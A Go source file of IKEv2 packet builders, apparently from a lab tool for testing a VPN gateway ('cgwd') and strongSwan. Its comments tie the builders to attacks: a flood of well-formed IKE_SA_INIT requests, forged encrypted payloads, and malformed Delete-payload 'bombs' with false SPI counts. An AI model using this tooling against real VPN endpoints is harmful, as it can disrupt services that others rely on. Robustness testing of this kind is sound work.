package main

import (
	"crypto/ecdh"
	"crypto/rand"
	"encoding/binary"
)

// IKEv2 numbers (RFC 7296 section 3) the attacks use.
const (
	exchInit   = 34 // IKE_SA_INIT
	exchChild  = 36 // CREATE_CHILD_SA
	exchInfo   = 37 // INFORMATIONAL
	flagInit   = 0x08
	flagResp   = 0x20
	ptSA       = 33
	ptKE       = 34
	ptNonce    = 40
	ptNotify   = 41
	ptDelete   = 42
	ptTSi      = 44
	ptTSr      = 45
	ptSK       = 46
	protoIKE   = 1
	protoESP   = 3
	nInvalidKE = 17
	nNATSrc    = 16388
	nNATDst    = 16389
	groupECP   = 20 // ecp384: what cgwd and the lab's strongSwan both accept
	group14    = 14
)

// header is the fixed IKE header (RFC 7296 3.1).
type header struct {
	spiI, spiR uint64
	exch       uint8
	flags      uint8
	msgID      uint32
}

// payload is one generic payload: its type and body. For an SK payload,
// inner is the type of the first payload inside it (its Next Payload field).
type payload struct {
	typ   uint8
	body  []byte
	inner uint8
}

// message encodes an IKE message: the header, then ps chained by their
// Next Payload fields, with every length filled in.
func message(h header, ps []payload) []byte {
	b := make([]byte, 28, 28+64*len(ps))
	binary.BigEndian.PutUint64(b[0:], h.spiI)
	binary.BigEndian.PutUint64(b[8:], h.spiR)
	if len(ps) > 0 {
		b[16] = ps[0].typ
	}
	b[17] = 0x20 // version 2.0
	b[18], b[19] = h.exch, h.flags
	binary.BigEndian.PutUint32(b[20:], h.msgID)
	for i, p := range ps {
		next := p.inner
		if i+1 < len(ps) {
			next = ps[i+1].typ
		}
		b = append(b, next, 0)
		b = binary.BigEndian.AppendUint16(b, uint16(4+len(p.body)))
		b = append(b, p.body...)
	}
	binary.BigEndian.PutUint32(b[24:], uint32(len(b)))
	return b
}

// skForged wraps ps in an SK payload that looks encrypted but is random:
// an 8-byte IV, the inner payloads' length rounded up to 16, a 16-byte
// ICV. Nobody holds the key it would need, so it must fail the ICV check.
func skForged(ps []payload) payload {
	n := 0
	for _, p := range ps {
		n += 4 + len(p.body)
	}
	body := randBytes(8 + (n+15)/16*16 + 16)
	var first uint8
	if len(ps) > 0 {
		first = ps[0].typ
	}
	return payload{typ: ptSK, body: body, inner: first}
}

func randBytes(n int) []byte {
	b := make([]byte, n)
	rand.Read(b)
	return b
}

func randSPI() uint64 {
	return binary.BigEndian.Uint64(randBytes(8)) | 1
}

// transform encodes a transform substructure; keyLen > 0 adds the Key
// Length attribute. last marks the proposal's final transform.
func transform(typ uint8, id uint16, keyLen uint16, last bool) []byte {
	b := []byte{3, 0, 0, 0, typ, 0}
	if last {
		b[0] = 0
	}
	b = binary.BigEndian.AppendUint16(b, id)
	if keyLen > 0 {
		b = binary.BigEndian.AppendUint16(b, 0x800e) // TV, attribute 14: key length
		b = binary.BigEndian.AppendUint16(b, keyLen)
	}
	binary.BigEndian.PutUint16(b[2:], uint16(len(b)))
	return b
}

// proposal encodes one (the last) proposal substructure.
func proposal(proto uint8, spi []byte, transforms ...[]byte) payload {
	b := []byte{0, 0, 0, 0, 1, proto, byte(len(spi)), byte(len(transforms))}
	b = append(b, spi...)
	for _, t := range transforms {
		b = append(b, t...)
	}
	binary.BigEndian.PutUint16(b[2:], uint16(len(b)))
	return payload{typ: ptSA, body: b}
}

// ikeProposal is AES-GCM-16-256, PRF HMAC-SHA2-384, ecp384 (cgwd's default,
// and among AWS's proposals, which the lab's strongSwan has).
func ikeProposal() payload {
	return proposal(protoIKE, nil,
		transform(1, 20, 256, false), // ENCR AES-GCM-16, 256 bits
		transform(2, 6, 0, false),    // PRF HMAC-SHA2-384
		transform(4, groupECP, 0, true))
}

// espProposal is AES-GCM-16-256 without ESN, with a fresh SPI.
func espProposal() payload {
	return proposal(protoESP, randBytes(4),
		transform(1, 20, 256, false),
		transform(5, 0, 0, true)) // ESN: none
}

// ecpPublic is one valid ecp384 public value (x | y), made once: a flood
// needs well-formed INITs, not fresh keys.
var ecpPublic = func() []byte {
	k, err := ecdh.P384().GenerateKey(rand.Reader)
	if err != nil {
		panic(err)
	}
	return k.PublicKey().Bytes()[1:] // drop the uncompressed-point prefix 0x04
}()

func ke(group uint16, data []byte) payload {
	b := binary.BigEndian.AppendUint16(nil, group)
	return payload{typ: ptKE, body: append(append(b, 0, 0), data...)}
}

func nonce() payload { return payload{typ: ptNonce, body: randBytes(32)} }

func notify(proto uint8, typ uint16, data []byte) payload {
	b := []byte{proto, 0}
	b = binary.BigEndian.AppendUint16(b, typ)
	return payload{typ: ptNotify, body: append(b, data...)}
}

// del encodes a Delete payload exactly as given: RFC 7296 allows SPI size 0
// with no SPIs for IKE and 4 with SPIs for ESP; the bombs claim count SPIs
// of size spiSize but carry spis bytes.
func del(proto, spiSize uint8, count uint16, spis []byte) payload {
	b := []byte{proto, spiSize}
	b = binary.BigEndian.AppendUint16(b, count)
	return payload{typ: ptDelete, body: append(b, spis...)}
}

// ts is a traffic selector payload for 0.0.0.0/0, all protocols and ports.
func ts(typ uint8) payload {
	return payload{typ: typ, body: []byte{1, 0, 0, 0,
		7, 0, 0, 16, 0, 0, 0xff, 0xff, 0, 0, 0, 0, 0xff, 0xff, 0xff, 0xff}}
}

// initRequest is a well-formed IKE_SA_INIT request from a random SPI.
func initRequest(extra ...payload) []byte {
	ps := append(extra, ikeProposal(), ke(groupECP, ecpPublic), nonce(),
		notify(0, nNATSrc, randBytes(20)), notify(0, nNATDst, randBytes(20)))
	return message(header{spiI: randSPI(), exch: exchInit, flags: flagInit}, ps)
}
